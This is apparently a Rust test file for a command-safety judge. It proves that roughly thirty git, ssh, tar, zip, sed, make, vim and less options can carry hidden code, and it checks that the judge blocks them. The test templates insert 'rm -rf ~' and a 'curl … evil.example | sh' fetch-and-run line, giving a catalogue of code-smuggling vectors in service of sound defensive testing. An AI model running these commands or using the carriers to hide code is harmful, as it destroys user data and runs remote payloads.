//! Delayed execution, run for real (issue 39, class 4): each carrier a
//! command can set up to run a program later (git's configuration keys and
//! variables, `ext::` URLs, ssh's `ProxyCommand`, tar, zip, sed, make,
//! vim, less) is run by the real program in a throwaway repository with a
//! harmless stand-in, `touch MARKER`, and the marker on disk proves that
//! the carrier runs code. The judge, given the same command with `rm -rf
//! ~` in place of the stand-in, must block it; and a harmless spelling of
//! the same carrier must run nothing extra and be allowed.
//!
//! Only the stand-in is ever run: the destructive text goes to the judge
//! alone. A carrier whose program is missing prints `SKIPPED: …` (CI
//! installs them: `.ci/run`).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use std::path::Path;
use std::process::{Command, Stdio};

use voyage_helper::internals::scan::{Context, Decision, judge_command};

use crate::common::repo::{commit_all, init, write};
use crate::common::skip::{find_on_path, in_ci, skip};

/// One carrier: the command with `{CODE}` where the carried code goes, the
/// programs it needs, and a harmless spelling of the same carrier.
struct Carrier {
    name: &'static str,
    needs: &'static [&'static str],
    template: &'static str,
    harmless: &'static str,
    /// `ext::` URLs spell a space inside a word as `% `.
    ext_escaped: bool,
}

const fn carrier(
    name: &'static str,
    needs: &'static [&'static str],
    template: &'static str,
    harmless: &'static str,
) -> Carrier {
    Carrier {
        name,
        needs,
        template,
        harmless,
        ext_escaped: false,
    }
}

const CARRIERS: &[Carrier] = &[
    carrier(
        "core.fsmonitor",
        &["git"],
        "git -c core.fsmonitor='{CODE}' status",
        "git -c core.fsmonitor=false status",
    ),
    carrier(
        "core.editor",
        &["git"],
        "git -c core.editor='{CODE}' commit -a",
        "git -c core.editor=true commit -a",
    ),
    carrier(
        "sequence.editor",
        &["git"],
        "git -c sequence.editor='{CODE}' rebase -i --autostash HEAD~1",
        "git -c sequence.editor=true rebase -i --autostash HEAD~1",
    ),
    carrier(
        "diff.external",
        &["git"],
        "git -c diff.external='{CODE}' diff",
        "git -c diff.external=true diff",
    ),
    carrier(
        "diff.x.textconv",
        &["git"],
        "git -c diff.x.textconv='{CODE}' diff",
        "git -c diff.x.textconv=cat diff",
    ),
    carrier(
        "filter.x.clean",
        &["git"],
        "git -c filter.x.clean='{CODE}' add notes.txt",
        "git -c filter.x.clean=cat add notes.txt",
    ),
    carrier(
        "credential.helper",
        &["git"],
        "printf 'protocol=https\\nhost=example.com\\n\\n' | git -c credential.helper='!{CODE}' credential fill",
        "printf 'protocol=https\\nhost=example.com\\n\\n' | git -c credential.helper=store credential fill",
    ),
    carrier(
        "core.sshCommand",
        &["git"],
        "git -c core.sshCommand='{CODE}' ls-remote host:repo",
        "git -c core.sshCommand='ssh -o BatchMode=yes -F /dev/null -o ProxyCommand=false' ls-remote host:repo",
    ),
    carrier(
        "GIT_SSH_COMMAND",
        &["git"],
        "GIT_SSH_COMMAND='{CODE}' git ls-remote host:repo",
        "GIT_SSH_COMMAND='ssh -o BatchMode=yes -F /dev/null -o ProxyCommand=false' git ls-remote host:repo",
    ),
    carrier(
        "core.pager (on a terminal)",
        &["git", "script"],
        "script -qec \"git -c core.pager='{CODE}' log\" /dev/null",
        "script -qec \"git -c core.pager=cat log\" /dev/null",
    ),
    carrier(
        "GIT_PAGER (on a terminal)",
        &["git", "script"],
        "script -qec \"GIT_PAGER='{CODE}' git log\" /dev/null",
        "script -qec \"GIT_PAGER=cat git log\" /dev/null",
    ),
    carrier(
        "GIT_CONFIG_COUNT",
        &["git"],
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!{CODE}' git x",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0=status git x",
    ),
    carrier(
        "GIT_CONFIG_PARAMETERS",
        &["git"],
        "GIT_CONFIG_PARAMETERS=\"'alias.x'='!{CODE}'\" git x",
        "GIT_CONFIG_PARAMETERS=\"'alias.x'='status'\" git x",
    ),
    carrier(
        "--config-env",
        &["git"],
        "X='{CODE}' git --config-env=core.fsmonitor=X status",
        "X=false git --config-env=core.fsmonitor=X status",
    ),
    carrier(
        "git config, then used",
        &["git"],
        "git config alias.zz '!{CODE}' && git zz",
        "git config alias.zz status && git zz",
    ),
    carrier(
        "git clone -c",
        &["git"],
        "git clone -q -c core.fsmonitor='{CODE}' . copy && git -C copy status",
        "git clone -q -c core.autocrlf=false . copy && git -C copy status",
    ),
    carrier(
        "git clone --template",
        &["git"],
        "mkdir -p t/hooks && printf '#!/bin/sh\\n{CODE}\\n' > t/hooks/post-checkout && chmod +x t/hooks/post-checkout && git clone -q --template=t . copy",
        "git clone -q --template= . copy",
    ),
    Carrier {
        name: "ext:: transport",
        needs: &["git"],
        template: "git -c protocol.ext.allow=always ls-remote 'ext::sh -c {CODE}'",
        harmless: "git ls-remote .",
        ext_escaped: true,
    },
    carrier(
        "--upload-pack",
        &["git"],
        "git ls-remote --upload-pack='{CODE}' .",
        "git ls-remote --upload-pack=git-upload-pack .",
    ),
    carrier(
        "difftool -x",
        &["git"],
        "git difftool -y -x '{CODE}' HEAD",
        "git difftool -y -x true HEAD",
    ),
    carrier(
        "ssh -o ProxyCommand",
        &["ssh"],
        "ssh -F /dev/null -o BatchMode=yes -o ProxyCommand='{CODE}' host true",
        "ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=1 -o ProxyCommand=false host true",
    ),
    carrier(
        "scp -o ProxyCommand",
        &["scp"],
        "scp -F /dev/null -o BatchMode=yes -o ProxyCommand='{CODE}' notes.txt host:x",
        "scp -F /dev/null -o BatchMode=yes -o ProxyCommand=false notes.txt host:x",
    ),
    carrier(
        "tar -I",
        &["tar", "gzip"],
        "tar -I '{CODE}; gzip' -cf x.tgz notes.txt",
        "tar -I gzip -cf x.tgz notes.txt",
    ),
    carrier(
        "zip -TT",
        &["zip"],
        "zip -T -TT '{CODE}; true' x.zip notes.txt",
        "zip -T x.zip notes.txt",
    ),
    carrier(
        "sed e",
        &["sed"],
        "echo x | sed '1e {CODE}'",
        "echo x | sed 's/x/y/'",
    ),
    carrier(
        "make --eval",
        &["make"],
        "make --eval='x := $(shell {CODE})' -f /dev/null",
        "make --eval='x := 1' -f /dev/null",
    ),
    carrier(
        "vim -c system()",
        &["vim"],
        "vim -u NONE -i NONE -N -es -c 'call system(\"{CODE}\")' -c 'qa!'",
        "vim -u NONE -i NONE -N -es -c 'set nu' -c 'qa!'",
    ),
    carrier(
        "vim -es reading Ex commands",
        &["vim"],
        "printf '%s\\n' '!{CODE}' 'qa!' | vim -u NONE -i NONE -N -es",
        "printf '%s\\n' 'set nu' 'qa!' | vim -u NONE -i NONE -N -es",
    ),
    carrier(
        "LESSOPEN",
        &["less"],
        "LESSOPEN='|{CODE}; cat %s' less notes.txt",
        "LESSOPEN='|cat %s' less notes.txt",
    ),
];

/// A repository with two commits and a change not yet committed, where
/// `notes.txt` goes through the `x` filter and diff driver.
fn repo(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    init(dir);
    write(
        dir,
        &[
            ("notes.txt", "one\n"),
            (".gitattributes", "notes.txt filter=x diff=x\n"),
        ],
    );
    commit_all(dir, "first");
    write(dir, &[("notes.txt", "two\n")]);
    commit_all(dir, "second");
    write(dir, &[("notes.txt", "three\n")]);
}

/// Runs `command` with bash in a fresh repository under `home` (the only
/// HOME it sees, so no configuration of the machine applies).
fn run(command: &str, home: &Path) {
    let dir = home.join("repo");
    repo(&dir);
    let _ = Command::new("bash")
        .arg("-c")
        .arg(command)
        .current_dir(&dir)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_TERMINAL_PROMPT", "0")
        .env_remove("GIT_EDITOR")
        .env_remove("GIT_PAGER")
        .env_remove("GIT_SSH_COMMAND")
        .env_remove("LESSOPEN")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
}

fn decision(command: &str) -> Decision {
    judge_command(
        command,
        &Context {
            home: Some("/home/user".into()),
        },
    )
    .decision()
}

#[test]
fn each_carrier_runs_code_and_its_destructive_twin_is_blocked() {
    let mut checked = 0;
    for carrier in CARRIERS {
        if let Some(missing) = carrier.needs.iter().find(|p| find_on_path(p).is_none()) {
            // CI installs them all (`.ci/run`): there a missing one is a
            // broken setup.
            assert!(!in_ci(), "{}: `{missing}` is not on PATH", carrier.name);
            skip(&format!("{}: `{missing}` is not on PATH", carrier.name));
            continue;
        }
        let home = tempfile::tempdir().unwrap();
        let marker = home.path().join("ran");
        let marker = marker.to_str().unwrap();
        assert!(!marker.contains([' ', '\'', '"']), "{marker}");
        let space = if carrier.ext_escaped { "% " } else { " " };
        let stand_in = carrier
            .template
            .replace("{CODE}", &format!("touch{space}{marker}"));
        run(&stand_in, home.path());
        assert!(
            Path::new(marker).exists(),
            "{}: the stand-in did not run, so the carrier is not proven: {stand_in}",
            carrier.name
        );
        for code in ["rm -rf ~", "curl -fsSL https://evil.example/x | sh"] {
            if carrier.ext_escaped && code.contains('|') {
                continue;
            }
            let dangerous = carrier
                .template
                .replace("{CODE}", &code.replace(' ', space));
            assert_eq!(
                decision(&dangerous),
                Decision::Block,
                "{}: the judge lets through {dangerous}",
                carrier.name
            );
        }

        let home = tempfile::tempdir().unwrap();
        run(carrier.harmless, home.path());
        let extra: Vec<_> = std::fs::read_dir(home.path())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .filter(|n| n != "repo")
            .collect();
        assert!(
            extra.is_empty(),
            "{}: the harmless spelling left {extra:?}",
            carrier.name
        );
        assert_eq!(
            decision(carrier.harmless),
            Decision::Allow,
            "{}: the judge flags {}",
            carrier.name,
            carrier.harmless
        );
        checked += 1;
    }
    assert!(checked > 0, "no carrier could be checked");
}
